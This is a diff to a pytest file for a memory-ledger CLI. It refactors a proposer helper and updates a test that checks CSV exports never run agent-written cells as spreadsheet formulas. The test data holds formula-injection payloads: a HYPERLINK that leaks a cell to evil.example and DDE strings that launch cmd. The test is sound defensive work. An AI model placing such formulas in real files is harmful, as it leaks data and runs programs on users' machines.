@@ -14,7 +14,7 @@ from amem.cli import main
 from amem.domain.hashing import GENESIS_HASH, change_hash, event_hash
 from amem.ledger import export_queries
 from amem.memory import Memory
-from tests.factories import LLM, make_note
+from tests.factories import llm_proposer, make_note
 
 
 def run(memory: Memory, capsys: pytest.CaptureFixture[str], *args: str) -> tuple[int, str, str]:
@@ -27,7 +27,9 @@ def run(memory: Memory, capsys: pytest.CaptureFixture[str], *args: str) -> tuple
 def ledger(memory: Memory) -> Memory:
     acme = make_note(memory, 'Acme: "renewal", in March — with SSO,\nsecond line', tags=["renewal"])
     make_note(memory, "Globex wants a pilot", scope="globex", tags=["pilot"])
-    memory.propose(acme.id, "decision_rationale", "auditor asked", reason="stated", proposer=LLM)
+    memory.propose(
+        acme.id, "decision_rationale", "auditor asked", reason="stated", proposer=llm_proposer(memory)
+    )
     return memory
 
 
@@ -266,7 +268,13 @@ def test_csv_cells_an_agent_wrote_never_run_as_formulas_in_a_spreadsheet(
     (send the sheet away, start a program). It is shown as text; JSON Lines keeps it exact."""
     payload = '=HYPERLINK("http://evil.example/?leak="&A1,"click for details")'
     note = make_note(memory, payload, tags=["+cmd|' /C calc'!A0"])
-    memory.propose(note.id, "decision_rationale", "@SUM(1+1)*cmd|' /C calc'!A0", reason="r", proposer=LLM)
+    memory.propose(
+        note.id,
+        "decision_rationale",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        reason="r",
+        proposer=llm_proposer(memory),
+    )
     for kind, text_column in (("raw-logs", "text"), ("changes", "new_value"), ("proposals", "new_value")):
         code, out, err = run(memory, capsys, "export", kind, "--format", "csv")
         assert code == 0, err
